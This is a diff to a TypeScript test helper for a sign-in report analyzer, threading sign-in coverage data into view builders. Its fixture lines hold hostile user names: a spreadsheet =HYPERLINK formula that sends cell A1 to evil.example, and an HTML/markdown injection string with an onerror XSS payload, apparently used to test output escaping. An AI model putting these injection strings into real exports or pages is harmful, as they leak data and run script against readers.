@@ -4,7 +4,7 @@
 import { limitReport, type Report } from '../../src/analyze/index.js';
 import { buildView, limitView, type ReportView } from '../../src/view/index.js';
 import type { SignIn } from '../../src/model.js';
-import { analyzeSignIns, makeSignIn } from './signins.js';
+import { analyzeSignIns, coverageFor, makeSignIn } from './signins.js';
 
 const HOSTILE_USER = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
 const MARKDOWN_USER = 'mallory|<img src=x onerror=alert(1)>*bold*_it_`code`[link](http://evil.example)@team #1 www.evil.example';
@@ -94,12 +94,13 @@ export function sampleReport(top = 0): Report {
   return limitReport(analyzeSignIns(sampleSignIns()).report, top);
 }
 
-/** A report as a view of its own: no period, comparison or thresholds. */
-export function viewOf(report: Report, top = 0): ReportView {
-  return limitView(buildView({ report, period: null, previous: null, baseline: null, rules: [] }), top);
+/** A report as a view of its own: no period, comparison or thresholds; coverage of one input holding `signIns`. */
+export function viewOf(report: Report, top = 0, signIns: readonly SignIn[] = []): ReportView {
+  return limitView(buildView({ report, coverage: coverageFor(signIns), period: null, previous: null, baseline: null, rules: [] }), top);
 }
 
 /** The sample report's view, cut to `top` rows per list. */
 export function sampleView(top = 0): ReportView {
-  return viewOf(analyzeSignIns(sampleSignIns()).report, top);
+  const signIns = sampleSignIns();
+  return viewOf(analyzeSignIns(signIns).report, top, signIns);
 }
